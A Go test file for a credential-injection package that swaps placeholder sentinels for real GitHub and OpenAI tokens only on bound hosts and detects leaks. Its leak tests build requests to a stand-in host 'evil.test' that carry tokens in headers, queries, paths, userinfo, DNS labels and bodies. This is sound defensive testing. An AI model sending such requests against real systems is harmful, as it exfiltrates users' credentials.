package credentials

import (
	"bytes"
	"encoding/base64"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// applySet has a header token for GitHub, a body-injected key for OpenAI
// and a token bound to a wildcard.
func applySet(t testing.TB) *Set {
	return mustLoad(t, []Spec{
		{Name: "GITHUB_TOKEN", Mode: ModeMask, InjectHosts: gh},
		{Name: "OPENAI_API_KEY", Mode: ModeMask, InjectHosts: []string{"api.openai.com"}, InjectBody: true},
		{Name: "CORP", Mode: ModeMask, Source: "env:CORP_SRC", InjectHosts: []string{"*.corp.example"}},
	}, map[string]string{"GITHUB_TOKEN": ghSecret, "OPENAI_API_KEY": openaiSecret, "CORP_SRC": fileSecret})
}

func newReq(t testing.TB, method, rawURL, body string, hdr map[string]string) *http.Request {
	t.Helper()
	var r io.Reader
	if body != "" {
		r = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, rawURL, r)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	return req
}

func basic(user, pass string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))
}

func TestApplySwap(t *testing.T) {
	s := applySet(t)
	ghS := bindingNamed(t, s, "GITHUB_TOKEN").Sentinel
	oaS := bindingNamed(t, s, "OPENAI_API_KEY").Sentinel
	coS := bindingNamed(t, s, "CORP").Sentinel
	tests := []struct {
		name      string
		host      string
		req       *http.Request
		wantHdr   map[string]string
		wantURL   string
		wantBody  string
		wantNames []string
	}{
		{
			name:      "bearer",
			host:      "api.github.com",
			req:       newReq(t, "GET", "https://api.github.com/user", "", map[string]string{"Authorization": "Bearer " + ghS}),
			wantHdr:   map[string]string{"Authorization": "Bearer " + ghSecret},
			wantNames: []string{"GITHUB_TOKEN"},
		},
		{
			name:      "token twice in one value and in another header",
			host:      "github.com",
			req:       newReq(t, "GET", "https://github.com/", "", map[string]string{"X-A": ghS + "," + ghS, "X-B": "t=" + ghS}),
			wantHdr:   map[string]string{"X-A": ghSecret + "," + ghSecret, "X-B": "t=" + ghSecret},
			wantNames: []string{"GITHUB_TOKEN"},
		},
		{
			name:      "basic",
			host:      "github.com",
			req:       newReq(t, "GET", "https://github.com/o/r.git/info/refs", "", map[string]string{"Authorization": basic("x", ghS)}),
			wantHdr:   map[string]string{"Authorization": basic("x", ghSecret)},
			wantNames: []string{"GITHUB_TOKEN"},
		},
		{
			name:      "userinfo",
			host:      "github.com",
			req:       newReq(t, "GET", "https://x-access-token:"+ghS+"@github.com/o/r.git", "", nil),
			wantURL:   "https://x-access-token:" + ghSecret + "@github.com/o/r.git",
			wantNames: []string{"GITHUB_TOKEN"},
		},
		{
			name:      "query",
			host:      "api.github.com",
			req:       newReq(t, "GET", "https://api.github.com/x?access_token="+ghS+"&a=1", "", nil),
			wantURL:   "https://api.github.com/x?access_token=" + ghSecret + "&a=1",
			wantNames: []string{"GITHUB_TOKEN"},
		},
		{
			name:      "wildcard host",
			host:      "a.b.corp.example",
			req:       newReq(t, "GET", "https://a.b.corp.example/", "", map[string]string{"X-Key": coS}),
			wantHdr:   map[string]string{"X-Key": fileSecret},
			wantNames: []string{"CORP"},
		},
		{
			name:      "body opt-in",
			host:      "api.openai.com",
			req:       newReq(t, "POST", "https://api.openai.com/v1/x", `{"key":"`+oaS+`"}`, map[string]string{"Authorization": "Bearer " + oaS}),
			wantHdr:   map[string]string{"Authorization": "Bearer " + openaiSecret},
			wantBody:  `{"key":"` + openaiSecret + `"}`,
			wantNames: []string{"OPENAI_API_KEY"},
		},
		{
			name:     "body not opted in stays",
			host:     "api.github.com",
			req:      newReq(t, "POST", "https://api.github.com/x", `{"t":"`+ghS+`"}`, nil),
			wantBody: `{"t":"` + ghS + `"}`,
		},
		{
			name:    "bound host, no sentinel: untouched",
			host:    "api.github.com",
			req:     newReq(t, "GET", "https://api.github.com/x?q=1", "", map[string]string{"Authorization": "Bearer other"}),
			wantHdr: map[string]string{"Authorization": "Bearer other"},
			wantURL: "https://api.github.com/x?q=1",
		},
		{
			name:    "wildcard does not match its parent",
			host:    "corp.example",
			req:     newReq(t, "GET", "https://corp.example/", "", map[string]string{"X-Plain": "hello"}),
			wantHdr: map[string]string{"X-Plain": "hello"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cl := tc.req.ContentLength
			res, err := s.Apply(tc.req, tc.host, false, false)
			if err != nil {
				t.Fatalf("Apply: %v", err)
			}
			if d := cmp.Diff(tc.wantNames, res.Injected); d != "" {
				t.Errorf("Injected (-want +got):\n%s", d)
			}
			for k, want := range tc.wantHdr {
				if got := tc.req.Header.Get(k); got != want {
					t.Errorf("header %s differs from want (len %d, want %d)", k, len(got), len(want))
				}
			}
			if tc.wantURL != "" && tc.req.URL.String() != tc.wantURL {
				t.Errorf("URL differs from want (len %d, want %d)", len(tc.req.URL.String()), len(tc.wantURL))
			}
			if tc.req.ContentLength != cl {
				t.Errorf("ContentLength = %d, want %d", tc.req.ContentLength, cl)
			}
			if tc.wantBody != "" {
				b, err := io.ReadAll(tc.req.Body)
				if err != nil {
					t.Fatal(err)
				}
				if string(b) != tc.wantBody {
					t.Errorf("body differs from want (len %d, want %d)", len(b), len(tc.wantBody))
				}
				if int64(len(b)) != cl {
					t.Errorf("body length %d, Content-Length %d", len(b), cl)
				}
			}
		})
	}
}

func TestApplyLeaks(t *testing.T) {
	s := applySet(t)
	ghS := bindingNamed(t, s, "GITHUB_TOKEN").Sentinel
	oaS := bindingNamed(t, s, "OPENAI_API_KEY").Sentinel
	big := strings.Repeat("x", 40<<10)
	tests := []struct {
		name      string
		host      string
		req       *http.Request
		wantCred  string
		wantWhere string
	}{
		{"header to other host", "evil.test",
			newReq(t, "GET", "https://evil.test/", "", map[string]string{"Authorization": "Bearer " + ghS}), "GITHUB_TOKEN", "header Authorization"},
		{"real secret to other host", "evil.test",
			newReq(t, "GET", "https://evil.test/", "", map[string]string{"X-Data": ghSecret}), "GITHUB_TOKEN", "header X-Data"},
		{"header name", "evil.test",
			newReq(t, "GET", "https://evil.test/", "", map[string]string{"X-" + ghS: "1"}), "GITHUB_TOKEN", "header-name"},
		{"basic", "evil.test",
			newReq(t, "GET", "https://evil.test/", "", map[string]string{"Authorization": basic("x", ghS)}), "GITHUB_TOKEN", "basic-auth"},
		{"query", "evil.test",
			newReq(t, "GET", "https://evil.test/?k="+ghS, "", nil), "GITHUB_TOKEN", "url-query"},
		{"query escaped", "evil.test",
			newReq(t, "GET", "https://evil.test/?k="+pctAll(ghS), "", nil), "GITHUB_TOKEN", "url-query"},
		{"path", "evil.test",
			newReq(t, "GET", "https://evil.test/"+ghS, "", nil), "GITHUB_TOKEN", "url-path"},
		{"userinfo", "evil.test",
			newReq(t, "GET", "https://u:"+ghS+"@evil.test/", "", nil), "GITHUB_TOKEN", "url-userinfo"},
		{"url host", "evil.test",
			newReq(t, "GET", "https://"+strings.ToLower(ghS[4:])+".evil.test/", "", nil), "GITHUB_TOKEN", "url-host"},
		{"body", "api.github.com",
			newReq(t, "POST", "https://api.github.com/x", big+oaS, nil), "OPENAI_API_KEY", "body"},
		{"other credential's sentinel to a bound host", "api.openai.com",
			newReq(t, "GET", "https://api.openai.com/", "", map[string]string{"Authorization": "Bearer " + oaS, "X-Gh": ghS}), "GITHUB_TOKEN", "header X-Gh"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			hdrBefore := tc.req.Header.Clone()
			urlBefore := tc.req.URL.String()
			var bodyBefore []byte
			if tc.req.GetBody != nil {
				rc, _ := tc.req.GetBody()
				bodyBefore, _ = io.ReadAll(rc)
			}
			_, err := s.Apply(tc.req, tc.host, false, false)
			le := asLeak(err)
			if le == nil {
				t.Fatalf("Apply err = %v, want *LeakError", err)
			}
			if le.Credential != tc.wantCred || le.Where != tc.wantWhere {
				t.Errorf("LeakError = {%s %s}, want {%s %s}", le.Credential, le.Where, tc.wantCred, tc.wantWhere)
			}
			noSecrets(t, s, "LeakError", err.Error())
			if strings.Contains(err.Error(), ghS) || strings.Contains(err.Error(), oaS) {
				t.Error("LeakError text holds a sentinel")
			}
			if d := cmp.Diff(hdrBefore, tc.req.Header); d != "" {
				t.Errorf("headers changed on a leak:\n%s", d)
			}
			if tc.req.URL.String() != urlBefore {
				t.Error("URL changed on a leak")
			}
			if bodyBefore != nil {
				got, _ := io.ReadAll(tc.req.Body)
				if !bytes.Equal(got, bodyBefore) {
					t.Errorf("body not restored (len %d, want %d)", len(got), len(bodyBefore))
				}
			}
		})
	}
}

func pctAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString("%" + strings.ToUpper(hex2(s[i])))
	}
	return b.String()
}

func hex2(c byte) string {
	const h = "0123456789abcdef"
	return string([]byte{h[c>>4], h[c&15]})
}

func TestApplyBodyBeyondPeekNotChecked(t *testing.T) {
	// The cap is a documented limit: a sentinel past BodyPeekLimit is not
	// seen. This pins the cap so a change to it is deliberate.
	s := applySet(t)
	oaS := bindingNamed(t, s, "OPENAI_API_KEY").Sentinel
	body := strings.Repeat("x", BodyPeekLimit) + oaS
	req := newReq(t, "POST", "https://evil.test/", body, nil)
	if _, err := s.Apply(req, "evil.test", false, false); err != nil {
		t.Fatalf("Apply: %v", err)
	}
	got, _ := io.ReadAll(req.Body)
	if string(got) != body {
		t.Error("body changed")
	}
}

func TestApplyBodyStreamSwap(t *testing.T) {
	// Sentinels on both sides of the peek and of the swap reader's chunk
	// size must all be swapped; the length must not change.
	s := applySet(t)
	oaS := bindingNamed(t, s, "OPENAI_API_KEY").Sentinel
	var body strings.Builder
	for _, n := range []int{10, BodyPeekLimit - 20, 32<<10 - 7, 5, 100 << 10} {
		body.WriteString(strings.Repeat("y", n))
		body.WriteString(oaS)
	}
	want := strings.ReplaceAll(body.String(), oaS, openaiSecret)
	req := newReq(t, "POST", "https://api.openai.com/v1/files", body.String(), nil)
	res, err := s.Apply(req, "api.openai.com", false, false)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(io.LimitReader(req.Body, 10<<20))
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != want {
		t.Errorf("swapped body differs (len %d, want %d; %d sentinels left)", len(got), len(want), strings.Count(string(got), oaS))
	}
	if d := cmp.Diff([]string{"OPENAI_API_KEY"}, res.Injected); d != "" {
		t.Errorf("Injected (-want +got):\n%s", d)
	}
}

func TestApplyPlaintext(t *testing.T) {
	s := applySet(t)
	ghS := bindingNamed(t, s, "GITHUB_TOKEN").Sentinel
	for _, tc := range []struct {
		name           string
		hdr            string
		allow, wantErr bool
	}{
		{"refused", "Bearer " + ghS, false, true},
		{"allowed", "Bearer " + ghS, true, false},
		{"nothing to inject", "Bearer none", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := newReq(t, "GET", "http://api.github.com/", "", map[string]string{"Authorization": tc.hdr})
			_, err := s.Apply(req, "api.github.com", true, tc.allow)
			var pe *PlaintextError
			if got := errors.As(err, &pe); got != tc.wantErr {
				t.Fatalf("Apply err = %v, want PlaintextError: %v", err, tc.wantErr)
			}
			if tc.wantErr {
				if pe.Credential != "GITHUB_TOKEN" {
					t.Errorf("Credential = %q", pe.Credential)
				}
				if req.Header.Get("Authorization") != tc.hdr {
					t.Error("header changed although refused")
				}
			}
		})
	}
}

func TestCheckHost(t *testing.T) {
	s := applySet(t)
	ghS := bindingNamed(t, s, "GITHUB_TOKEN").Sentinel
	tests := []struct {
		name, host, want string
	}{
		{"label", ghS + ".evil.test", "GITHUB_TOKEN"},
		{"upper-case", strings.ToUpper(ghS) + ".evil.test", "GITHUB_TOKEN"},
		{"substring", "x" + strings.ToLower(ghS) + "y.evil.test", "GITHUB_TOKEN"},
		{"split over labels", ghS[:10] + "." + ghS[10:] + ".evil.test", "GITHUB_TOKEN"},
		{"real secret", ghSecret + ".evil.test", "GITHUB_TOKEN"},
		{"clean", "api.github.com", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			le := s.CheckHost(tc.host)
			got := ""
			if le != nil {
				got = le.Credential
			}
			if got != tc.want {
				t.Errorf("CheckHost = %q, want %q", got, tc.want)
			}
		})
	}
	var nilSet *Set
	if nilSet.CheckHost("x") != nil {
		t.Error("nil Set reported a leak")
	}
}

func TestApplyNoSecretEscapes(t *testing.T) {
	// Every text this package hands out for a leak, a refusal or a
	// rendering must be free of real secrets.
	s := applySet(t)
	ghS := bindingNamed(t, s, "GITHUB_TOKEN").Sentinel
	var outs []string
	for _, r := range []*http.Request{
		newReq(t, "GET", "https://evil.test/?a="+ghS, "", nil),
		newReq(t, "POST", "https://evil.test/", ghSecret, nil),
		newReq(t, "GET", "http://github.com/", "", map[string]string{"Authorization": "Bearer " + ghS}),
	} {
		host := r.URL.Hostname()
		res, err := s.Apply(r, host, r.URL.Scheme == "http", false)
		outs = append(outs, err.Error(), fmtAll(res), fmtAll(err))
	}
	_, warns, err := Load([]Spec{{Name: "X", Mode: ModeMask, Source: "command:sh -c 'echo " + ghSecret + "; echo " + ghSecret + " >&2; exit 1'", InjectHosts: gh}}, envOf(nil))
	outs = append(outs, err.Error(), fmtAll(err), fmtAll(warns), fmtAll(s))
	for i, o := range outs {
		noSecrets(t, s, "output "+string(rune('0'+i)), o)
		if strings.Contains(o, ghSecret) {
			t.Errorf("output %d holds the secret", i)
		}
	}
}

func fmtAll(v any) string {
	var b strings.Builder
	for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
		b.WriteString(fmtS(verb, v))
	}
	return b.String()
}

func TestApplyURLUnchangedWithoutUser(t *testing.T) {
	s := applySet(t)
	u, _ := url.Parse("https://api.github.com/a%2Fb?x=1")
	req := &http.Request{Method: "GET", URL: u, Header: http.Header{}}
	if _, err := s.Apply(req, "api.github.com", false, false); err != nil {
		t.Fatal(err)
	}
	if req.URL.String() != "https://api.github.com/a%2Fb?x=1" {
		t.Errorf("URL = %s", req.URL)
	}
}

func TestBindsHost(t *testing.T) {
	s := applySet(t)
	for host, want := range map[string]bool{"api.github.com": true, "x.corp.example": true, "corp.example": false, "evil.test": false} {
		if got := s.BindsHost(host); got != want {
			t.Errorf("BindsHost(%q) = %v, want %v", host, got, want)
		}
	}
}
